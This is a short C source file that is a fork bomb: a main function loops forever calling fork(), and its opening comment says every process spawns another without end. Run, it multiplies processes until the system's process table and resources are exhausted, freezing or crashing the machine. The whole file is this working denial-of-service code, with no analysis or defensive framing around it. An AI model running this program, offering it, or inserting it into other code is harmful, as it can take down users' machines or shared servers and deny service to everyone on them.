/* Every process of it makes another, for ever. */
#include <unistd.h>

int main(void)
{
    for (;;)
        fork();
}
